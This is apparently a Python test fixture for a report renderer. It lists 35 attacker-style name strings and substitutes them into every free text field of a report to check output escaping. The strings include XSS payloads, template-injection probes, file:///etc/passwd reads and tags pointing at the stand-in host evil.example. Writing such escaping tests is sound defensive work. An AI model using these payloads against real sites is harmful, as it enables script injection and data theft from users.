"""Thirty-five names as an attacker would choose them, and a report with one of them everywhere."""

import dataclasses
from collections.abc import Iterator, Mapping
from itertools import cycle
from typing import Any

from report.rendering.view import ReportView
from report.text import Text

NAMES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<form action=//evil.example><input name=a>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{# comment",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "@import url(file:///etc/passwd);",
    "x{background:url(//evil.example/x)}",
    "\u202eexample.com\u202c\u200b",
    "\x1b]0;owned\x07\x00\x9b31m",
    "＜script＞alert(1)＜/script＞",
)

_FIXED = frozenset({"status", "colour", "state", "kind", "transport", "name"})
"""Fields that hold one of labshark's own words, never something of a capture's."""


def poisoned(view: ReportView, *names: str) -> ReportView:
    """The report with one of `names`, each in turn, in place of every free string in it."""
    changed: ReportView = _poisoned(view, cycle(names))
    name = names[0]
    answers = {"trace": {"name": name}, "answers": [{"id": "q1", "text": {"zh": name, "en": name}}]}
    return dataclasses.replace(changed, answers=answers)


def _poisoned(value: Any, names: Iterator[str]) -> Any:
    if isinstance(value, Text):
        name = next(names)
        return Text(f"{name}字", name)
    if isinstance(value, str):
        return next(names)
    if isinstance(value, tuple):
        return tuple(_poisoned(item, names) for item in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: _poisoned(getattr(value, f.name), names)
            for f in dataclasses.fields(value)
            if not _is_fixed(value, f.name)
        }
        return dataclasses.replace(value, **changes)
    return value


def _is_fixed(owner: object, field: str) -> bool:
    # The name of a buffer and of a capture are free; that of a header field is a key.
    if field == "name":
        return type(owner).__name__ == "HeaderField"
    return field in _FIXED or isinstance(getattr(owner, field), Mapping)
